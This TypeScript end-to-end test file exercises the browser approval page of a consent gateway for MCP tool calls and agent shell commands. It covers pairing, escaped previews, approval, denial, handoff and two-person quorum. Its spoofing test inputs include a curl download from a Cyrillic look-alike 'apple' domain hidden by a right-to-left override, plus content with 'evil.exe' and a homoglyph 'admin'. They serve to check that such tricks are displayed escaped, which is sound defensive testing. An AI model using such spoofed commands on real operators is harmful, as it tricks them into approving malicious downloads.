// The approval page in a real browser (R-WEB-2, R-WEB-3): Debian's Chromium
// driven by playwright-core pairs with the code from `assent web --json`, sees a
// prompt call from a real gateway session (official SDK client → built `assent
// mcp` → server-filesystem) with its complete escaped preview, and decides it.
// The MCP client's call completes (approve) or sees the operator's reason (deny).
import { runCliInTerminal } from '../../helpers/pty.js';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { hostname, tmpdir, userInfo } from 'node:os';
import { join } from 'node:path';
import type { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { chromium, type BrowserContext, type Page } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import { escapedJson } from '../../../src/core/base/escape.js';
import { DaemonClient } from '../../../src/heads/daemon/rpcClient.js';
import { REPO_ROOT, type TempHome } from '../../helpers/daemon.js';
import { connectGateway, startFsStack } from '../../helpers/fsStack.js';
import { answerOf, runHook, shellEvent } from '../../helpers/hook.js';
import { cleanupsAfterEach } from '../../helpers/cleanups.js';

const CHROMIUM = '/usr/bin/chromium';
const SCREENSHOTS = join(REPO_ROOT, 'test-output', 'web');
const CHROMIUM_FLAGS = [
  '--no-sandbox',
  '--disable-gpu',
  '--disable-quic',
  '--disable-background-networking',
  '--disable-component-update',
  '--disable-sync',
  '--no-first-run',
];

const cleanups = cleanupsAfterEach();

interface Setup {
  home: TempHome;
  dir: string;
  client: Client;
  url: string;
  code: string;
  browser: BrowserContext;
  page: Page;
}

async function setup(extraConfig: Record<string, unknown> = {}): Promise<Setup> {
  const { home, dir } = await startFsStack(cleanups, { policy: { default: 'allow', tools: { 'fs/write_file': 'prompt' } }, ...extraConfig });
  const web = await runCliInTerminal(home, ['web', '--json']);
  expect(web.code).toBe(0);
  const { url, code } = (JSON.parse(web.stdout) as { data: { url: string; code: string; expiresAt: number } }).data;
  expect(url).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/$/);

  const { client } = await connectGateway(cleanups, home);

  const profile = mkdtempSync(join(tmpdir(), 'assent-chromium-'));
  cleanups.push(() => rmSync(profile, { recursive: true, force: true }));
  const browser = await chromium.launchPersistentContext(profile, {
    executablePath: CHROMIUM,
    args: CHROMIUM_FLAGS,
    headless: true,
    viewport: { width: 1280, height: 900 },
  });
  cleanups.push(() => browser.close());
  const page = browser.pages()[0] ?? (await browser.newPage());
  return { home, dir, client, url, code, browser, page };
}

function resultText(result: unknown): string {
  const content = (result as { content?: { type: string; text?: string }[] }).content ?? [];
  return content.map((c) => c.text ?? '').join('\n');
}

async function screenshots(page: Page, name: string): Promise<void> {
  mkdirSync(SCREENSHOTS, { recursive: true });
  await page.setViewportSize({ width: 1280, height: 900 });
  await page.screenshot({ path: join(SCREENSHOTS, `${name}-1280.png`), fullPage: true });
  await page.setViewportSize({ width: 390, height: 844 });
  await page.screenshot({ path: join(SCREENSHOTS, `${name}-390.png`), fullPage: true });
  // Usable on a phone: nothing wider than the screen forces horizontal scrolling.
  const overflow = await page.evaluate<number>('document.documentElement.scrollWidth - document.documentElement.clientWidth');
  expect(overflow).toBeLessThanOrEqual(0);
  await page.setViewportSize({ width: 1280, height: 900 });
}

/**
 * Debian's Chromium is installed by .ci/run; CI must run these tests. On a
 * developer machine without it they are skipped with the install command.
 */
const haveChromium = existsSync(CHROMIUM);
if (!haveChromium && process.env['CI'] === 'true') throw new Error(`${CHROMIUM} is missing; .ci/run installs it (apt-get install -y chromium)`);
if (!haveChromium) process.stderr.write(`skipping browser tests: ${CHROMIUM} is missing (apt-get install -y chromium)\n`);

describe.skipIf(!haveChromium)('the approval page in Chromium', () => {
  it('R-WEB-3 pairs with the typed code, shows the complete escaped preview, approves, and the MCP call completes', async () => {
    const { dir, client, url, code, page } = await setup();
    await page.goto(url);
    await page.getByLabel('Pairing code').fill(code);
    await page.getByRole('button', { name: 'Pair' }).click();
    await expect.poll(() => page.getByText('Nothing is waiting for you.').isVisible(), { timeout: 10_000 }).toBe(true);
    await expect.poll(() => page.locator('#status').textContent(), { timeout: 10_000 }).toBe('live');

    const target = join(dir, 'from-the-web.txt');
    // Long, multi-line, with a bidi override and a look-alike letter: all must be visible, nothing shortened.
    const content = `${'line of text '.repeat(200)}\nend \u202e evil.exe \u0430dmin`;
    const args = { path: target, content };
    const call = client.callTool({ name: 'write_file', arguments: args }, undefined, { timeout: 60_000 });

    const card = page.locator('#pending-list li.card');
    await card.first().waitFor({ timeout: 15_000 });
    await expect.poll(() => card.count()).toBe(1);
    expect(await card.locator('h3').textContent()).toBe('fs/write_file');
    const preview = await card.locator('pre.preview').textContent();
    expect(preview).toBe(escapedJson(args, 2));
    expect(preview).toContain('\\u202e');
    expect(preview).toContain('\\u0430dmin');
    expect(await card.locator('.countdown').textContent()).toMatch(/^\d+:\d\d$/);
    expect(await card.textContent()).toContain('session ');
    expect(existsSync(target)).toBe(false);
    await screenshots(page, 'pending');

    await card.getByRole('button', { name: 'Approve once' }).click();
    const result = await call;
    expect(result.isError).toBeFalsy();
    expect(readFileSync(target, 'utf8')).toBe(content);
    await expect.poll(() => page.locator('#pending-list li.card').count(), { timeout: 10_000 }).toBe(0);
    await page.getByRole('button', { name: 'Recently resolved' }).click();
    await expect.poll(() => page.locator('#resolved-list').textContent(), { timeout: 10_000 }).toContain('via web');
    await page.getByRole('button', { name: 'Audit' }).click();
    await expect.poll(() => page.locator('#audit-table tbody').textContent(), { timeout: 10_000 }).toContain('write_file');
    await screenshots(page, 'audit');
  });

  it('R-WEB-3 pairs through the URL fragment, denies with a reason, and the MCP client sees that reason', async () => {
    const { dir, client, url, code, page } = await setup();
    const requests: string[] = [];
    page.on('request', (request) => requests.push(request.url()));
    await page.goto(`${url}#code=${code}`);
    await expect.poll(() => page.getByText('Nothing is waiting for you.').isVisible(), { timeout: 10_000 }).toBe(true);
    await expect.poll(() => page.locator('#status').textContent(), { timeout: 10_000 }).toBe('live');
    // The fragment is gone from the address bar and never reached the server.
    expect(page.url()).toBe(url);
    for (const requested of requests) expect(requested).not.toContain(code);

    const target = join(dir, 'denied.txt');
    const call = client.callTool({ name: 'write_file', arguments: { path: target, content: 'should never be written' } }, undefined, { timeout: 60_000 });
    const card = page.locator('#pending-list li.card');
    await card.first().waitFor({ timeout: 15_000 });
    await card.getByLabel('Reason').fill('use the scratch directory instead');
    await card.getByRole('button', { name: 'Deny' }).click();

    const result = await call;
    expect(result.isError).toBe(true);
    expect(resultText(result)).toContain('consent_denied');
    expect(resultText(result)).toContain('use the scratch directory instead');
    expect(existsSync(target)).toBe(false);
    await page.getByRole('button', { name: 'Recently resolved' }).click();
    await expect.poll(() => page.locator('#resolved-list').textContent(), { timeout: 10_000 }).toContain('use the scratch directory instead');
    expect(await page.locator('#resolved-list li.card').count()).toBe(1);
    await screenshots(page, 'denied');
  });

  it('R-WEB-3 in handoff mode the page authorizes the agent\'s retry; the identical retry runs once', async () => {
    const { dir, client, url, code, page } = await setup({ approvals: { handoff: true, proofTtlSeconds: 300 } });
    await page.goto(`${url}#code=${code}`);
    await expect.poll(() => page.getByText('Nothing is waiting for you.').isVisible(), { timeout: 10_000 }).toBe(true);
    await expect.poll(() => page.locator('#status').textContent(), { timeout: 10_000 }).toBe('live');

    const target = join(dir, 'handoff.txt');
    const args = { path: target, content: 'after the handoff' };
    const first = await client.callTool({ name: 'write_file', arguments: args }, undefined, { timeout: 60_000 });
    expect(first.isError).toBe(true);
    expect(existsSync(target)).toBe(false);

    const card = page.locator('#pending-list li.card');
    await card.first().waitFor({ timeout: 15_000 });
    expect(await card.getByRole('button', { name: 'Approve for session' }).count()).toBe(0);
    expect(await card.locator('pre.preview').textContent()).toBe(escapedJson(args, 2));
    await screenshots(page, 'handoff');
    await card.getByRole('button', { name: "Authorize for the agent's retry" }).click();
    await expect.poll(() => page.locator('#pending-list li.card').count(), { timeout: 10_000 }).toBe(0);

    const retry = await client.callTool({ name: 'write_file', arguments: args }, undefined, { timeout: 60_000 });
    expect(retry.isError).toBeFalsy();
    expect(readFileSync(target, 'utf8')).toBe('after the handoff');
    expect(resultText(retry)).not.toMatch(/asp1_/);
  });

  it('R-WEB-3 an agent action shows agent, tool id, cwd, session and the shell command itself, escaped; approving releases the waiting hook', async () => {
    const { home, url, code, page } = await setup();
    await page.goto(`${url}#code=${code}`);
    await expect.poll(() => page.locator('#status').textContent(), { timeout: 10_000 }).toBe('live');
    const command = 'curl -s https://\u0430pple.example/install.sh > /tmp/install.sh # \u202e';
    const waiting = runHook(['claude-code'], shellEvent('claude-code', command, { session_id: 'web-session', cwd: '/work/caf\u00e9' }), home.env);
    const card = page.locator('#pending-list li.card');
    await card.first().waitFor({ timeout: 15_000 });
    expect(await card.locator('h3').textContent()).toBe('claude/Bash (agent action)');
    const text = (await card.textContent()) ?? '';
    expect(text).toContain('agent claude-code');
    expect(text).toContain('cwd /work/caf\\u00e9');
    expect(text).toContain('session web-session');
    expect(await card.locator('pre.command').textContent()).toBe('curl -s https://\\u0430pple.example/install.sh > /tmp/install.sh # \\u202e');
    expect(await card.locator('pre.preview').textContent()).toBe(escapedJson({ command, description: 'run it' }, 2));
    // R-POL-9: each simple command with the rule or default that decided it.
    const parts = await card.locator('ul.policy-parts li').allTextContents();
    expect(parts).toEqual([
      'prompt command curl -s https://\\u0430pple.example/install.sh > /tmp/install.sh by policy.commands.default',
      'prompt path write /tmp/install.sh by policy.paths.write',
    ]);
    await screenshots(page, 'agent-action');
    await card.getByRole('button', { name: 'Approve once' }).click();
    const result = await waiting;
    expect(result.code).toBe(0);
    expect(answerOf(result.stdout).decision).toBe('allow');
    await expect.poll(() => page.locator('#pending-list li.card').count(), { timeout: 10_000 }).toBe(0);
  });
});

describe.skipIf(!haveChromium)('R-TEAM-3 the page as a second principal', () => {
  it('R-TEAM-3 under policy.quorum 2 the page shows who has approved so far; its own approval, a distinct principal, meets the quorum and the MCP call completes', async () => {
    const { home, dir, client, url, code, page } = await setup({ policy: { default: 'allow', tools: { 'fs/write_file': 'prompt' }, quorum: { 'fs/write_file': 2 } } });
    await page.goto(`${url}#code=${code}`);
    await expect.poll(() => page.locator('#status').textContent(), { timeout: 10_000 }).toBe('live');
    const target = join(dir, 'two-approvers.txt');
    const call = client.callTool({ name: 'write_file', arguments: { path: target, content: 'two of two' } }, undefined, { timeout: 60_000 });
    const card = page.locator('#pending-list li.card');
    await card.first().waitFor({ timeout: 15_000 });
    expect(await card.textContent()).toContain('Approved so far by nobody yet (0 of 2).');

    // The first approval comes from the host's socket, the CLI's principal.
    const operator = await DaemonClient.connect({ socketPath: home.paths.socket, autoSpawn: false });
    cleanups.push(() => operator.close());
    const id = (await operator.call<{ id: string }[]>('approvals.list', {}))[0]?.id as string;
    const local = `${userInfo().username}@${hostname()}`;
    expect((await operator.call<{ decision: { result: string } }>('approvals.decide', { id, behavior: 'allow' })).decision.result).toBe('partial');
    await expect.poll(() => page.locator('#pending-list li.card').textContent(), { timeout: 10_000 }).toContain(`Approved so far by ${local} (1 of 2).`);
    expect(existsSync(target)).toBe(false);

    await page.locator('#pending-list li.card').getByRole('button', { name: 'Approve once' }).click();
    const result = await call;
    expect(result.isError).toBeFalsy();
    expect(readFileSync(target, 'utf8')).toBe('two of two');
    const decided = await operator.call<{ state: string; approvedBy: string[]; decidedBy: string }>('approvals.get', { id });
    expect(decided.state).toBe('approved');
    expect(decided.approvedBy[0]).toBe(local);
    expect(decided.decidedBy).toMatch(/^web:/);
    await page.getByRole('button', { name: 'Recently resolved' }).click();
    // R-REM-5: the page names the browser as `assent web devices` does, with its device id, not as a raw principal.
    const device = decided.decidedBy.slice('web:'.length);
    await expect.poll(() => page.locator('#resolved-list').textContent(), { timeout: 10_000 }).toMatch(new RegExp(`by [^()]+ \\(${device}\\)`));
  });
});
